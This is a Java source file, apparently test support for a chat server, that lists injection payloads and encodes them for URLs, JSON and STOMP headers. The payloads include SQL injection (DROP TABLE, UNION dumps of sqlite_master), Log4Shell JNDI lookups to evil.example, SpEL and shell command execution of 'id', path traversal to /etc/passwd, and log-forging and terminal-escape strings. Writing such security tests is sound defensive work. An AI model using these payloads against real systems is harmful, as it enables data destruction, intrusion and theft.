package chat.hubbub.attack;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Locale;

/** Texts that are commands to somebody: to a database, its index, a template, a logger, a shell, a format. */
final class Injections {

    /** What a log that took one of them for its own words would show. */
    static final String MARK = "forged-line";

    static final List<String> ALL = List.of(
            "' OR '1'='1",
            "' OR 1=1 --",
            "\" OR \"\"=\"",
            "') OR ('1'='1",
            "' OR 1=1 LIMIT 1 OFFSET 1 --",
            "1 OR 1=1",
            "0 OR 1=1 --",
            "1; DROP TABLE message",
            "'; DROP TABLE message; --",
            "'; DROP TABLE room; DELETE FROM message; --",
            "'; UPDATE message SET content='x'; --",
            "'; INSERT INTO room(name) VALUES('x'); --",
            "'; ATTACH DATABASE 'x.db' AS x; --",
            "'; PRAGMA writable_schema=1; --",
            "'; PRAGMA journal_mode=OFF; --",
            "'; VACUUM INTO 'x.db'; --",
            "'; COMMIT; BEGIN; --",
            "' UNION SELECT NULL --",
            "' UNION SELECT name,sql FROM sqlite_master --",
            "' UNION ALL SELECT content FROM message --",
            "x' AND 1=CAST((SELECT name FROM sqlite_master) AS INT) --",
            "x' AND (SELECT load_extension('x')) --",
            "x' AND randomblob(1000000000) --",
            "x' || (SELECT secret FROM person) || '",
            "x' AND hex(zeroblob(999999999)) --",
            "x';SELECT writefile('x','x');--",
            "admin'--",
            "admin'/*",
            "/**/OR/**/1=1",
            "%27%20OR%201=1",
            "\\' OR 1=1 --",
            "\\\\' OR 1=1 --",
            "\u02bc OR 1=1 --",
            "\uff07 OR 1=1 --",
            "1e308",
            "0x7fffffff",
            "-0",
            "+1",
            "1.0",
            "\u0661",
            "9223372036854775808",
            "-9223372036854775809",
            "NaN",
            "NULL",
            "?",
            "?1",
            ":a",
            "@a",
            "$a",
            "%",
            "%%",
            "_",
            "%canary%",
            "c_nary",
            "[a-z]*",
            "*",
            "canary*",
            "canar*",
            "*canary",
            "^canary",
            "\"canary",
            "canary\"",
            "\"",
            "\"\"",
            "\"\"\"",
            "content:canary",
            "content : canary",
            "{content}:canary",
            "-content:x",
            "rowid:1",
            "-canary",
            "+canary",
            "canary OR x",
            "canary AND word",
            "canary NOT x",
            "x NOT canary",
            "NOT canary",
            "NEAR(canary word)",
            "NEAR(canary word, 5)",
            "NEAR(",
            "(canary)",
            "(canary",
            "canary)",
            "{canary}",
            "{",
            "canary + word",
            "canary/word",
            "canary\\",
            "canary;",
            "canary,word",
            "canary'",
            "((((((((((canary))))))))))",
            "AND",
            "OR OR OR",
            "{\"$gt\":\"\"}",
            "{\"$where\":\"sleep(1000)\"}",
            "[$ne]=1",
            "*)(uid=*))(|(uid=*",
            "' or count(//x)=1 or '1'='",
            "<!--#exec cmd=\"id\"-->",
            "${jndi:ldap://evil.example/" + MARK + "}",
            "${${lower:j}ndi:dns://evil.example/" + MARK + "}",
            "#{T(java.lang.Runtime).getRuntime().exec('id')}",
            "__${T(java.lang.Runtime).getRuntime().exec('id')}__::x",
            "{{7*7}}",
            "<%= 7*7 %>",
            "$(id)",
            "`id`",
            "| id",
            "; id",
            "%s%s%s%n%n%x",
            "{} {} {0} {1}",
            "../../../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "file:///etc/passwd",
            "public/../public",
            "public%2f..%2fpublic",
            "public\u0000",
            "\u0000",
            "a\u0000b",
            "a\r\nSet-Cookie: x=y",
            "a\r\n2026-11-26T00:00:00.000Z ERROR 1 --- " + MARK,
            "a\n" + MARK,
            "a\u0085" + MARK,
            "a\u2028" + MARK,
            "\u001b[2J\u001b[31m" + MARK,
            "\u001b]0;" + MARK + "\u0007",
            "\u0008\u0008\u0008" + MARK,
            "\u009b31m" + MARK,
            "\u202e" + MARK,
            "\ud800",
            "\udc00",
            "a\ud800b",
            "\udc00\ud800",
            "\uffff",
            "\ufdd0",
            "\udbff\udfff",
            "\ufeff",
            "\u0130\u0131\u017f\u1e9e",
            "e" + "\u0301".repeat(100),
            "x ".repeat(9),
            "x".repeat(201),
            "x".repeat(2_000),
            "\u00e4".repeat(1_000),
            "'".repeat(500),
            "\"".repeat(150),
            "(".repeat(190));

    private Injections() {}

    /** For an address, byte by byte; halves of surrogates as the three bytes that nobody may send. */
    static String inAddress(String text) {
        StringBuilder encoded = new StringBuilder();
        for (byte b : bytes(text)) {
            encoded.append(String.format("%%%02X", b & 0xff));
        }
        return encoded.toString();
    }

    /** A string of JSON, quotation marks and all. */
    static String inJson(String text) {
        StringBuilder json = new StringBuilder("\"");
        text.chars().forEach(c -> json.append(c < 0x20 || c > 0x7e || c == '"' || c == '\\' ? escaped(c) : (char) c));
        return json.append('"').toString();
    }

    /** The value of a header of STOMP. */
    static String inHeader(String text) {
        return text.replace("\\", "\\\\")
                .replace("\n", "\\n")
                .replace("\r", "\\r")
                .replace(":", "\\c")
                .replace("\u0000", "");
    }

    /** Short enough for the name of a case, and without what breaks a report. */
    static String named(String text) {
        String json = inJson(text);
        return json.length() <= 60 ? json : json.substring(0, 50).toLowerCase(Locale.ROOT) + "... " + text.length();
    }

    private static String escaped(int c) {
        return String.format("\\u%04x", c);
    }

    private static byte[] bytes(String text) {
        int[] points = text.codePoints().toArray();
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (int c : points) {
            boolean half = c >= 0xd800 && c <= 0xdfff;
            byte[] bytes = half
                    ? new byte[] {(byte) (0xe0 | c >> 12), (byte) (0x80 | c >> 6 & 0x3f), (byte) (0x80 | c & 0x3f)}
                    : Character.toString(c).getBytes(StandardCharsets.UTF_8);
            out.writeBytes(bytes);
        }
        return out.toByteArray();
    }
}
